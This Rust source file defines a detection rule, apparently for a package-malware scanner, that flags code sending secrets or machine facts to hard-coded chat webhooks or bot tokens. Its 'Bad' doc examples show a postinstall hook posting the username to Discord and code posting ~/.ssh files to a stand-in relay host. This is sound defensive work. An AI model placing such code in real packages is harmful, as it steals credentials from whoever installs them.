//! # Secrets or facts of the machine go to a chat
//!
//! A secret or facts of the machine are posted to a chat's hook or bot whose token stands in the code; at
//! install or import, anything that the machine tells.
//!
//! ## Why it matters
//!
//! Hooks of chats cost nothing, need no host and pass every firewall, so small thieves use little else.
//!
//! ## Known benign uses
//!
//! Notifiers and bots take the token of the hook from their user, so that it is no constant.
//!
//! ## Bad
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node setup.js"}}
//! == setup.js
//! const os = require("os");
//! const hook = "https://discord.com/api/webhooks/000000000000000000/void-token";
//! fetch(hook, { method: "POST", body: JSON.stringify({ content: os.userInfo().username }) }); //~ here
//! ```
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! const axios = require("axios");
//! const token = "0000000000:VOID-TOKEN";
//! exports.open = (file) => {
//!   const text = require("fs").readFileSync(`${process.env.HOME}/.ssh/${file}`, "utf8");
//!   axios.post(`https://relay.invalid/bot${token}/sendMessage`, { chat_id: 1, text }); //~ here
//! };
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! const os = require("os");
//! const hook = `https://discord.com/api/webhooks/${process.env.HOOK_ID}/${process.env.HOOK_TOKEN}`;
//! exports.alert = (text) => fetch(hook, { method: "POST", body: JSON.stringify({ content: os.hostname() + text }) });
//! ```
//!
//! ## References
//!
//! - Datadog: MUT-4831 (October 2025)
//! - Socket: flashbots squats (September 2025)

use crate::prelude::*;

/// Secrets or facts of the machine go to a chat.
pub struct SecretSentToMessenger;

impl Rule for SecretSentToMessenger {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "secret-sent-to-messenger",
            title: "Secrets or facts of the machine go to a chat",
            tier: Tier::Source,
            role: Role::Threat,
            severity: Level::High,
            specificity: Level::High,
            technique: "T1567.004",
            covers: &["exfil-webhook-discord", "exfil-telegram-bot"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        for flow in facts.flows(|_| true, |sink| sink.host().is_some_and(is_hook)) {
            if flow.trigger.runs_unasked() || flow.trigger != Trigger::Dormant && is_worth(&flow.source) {
                found.flow(flow);
            }
        }
    }
}

fn is_worth(source: &Source) -> bool {
    source.is_secret() || *source == Source::HostFact || matches!(source, Source::SecretFile(_))
}

/// Whether a host is a chat's hook with its token: up to the query, all of its path is constant.
fn is_hook(host: &Host) -> bool {
    let path = host.path.split('?').next().unwrap_or_default();
    host.class() == HostClass::Messenger && path.len() > 1 && !path.contains(stockade_facts::vocabulary::HOLE)
}
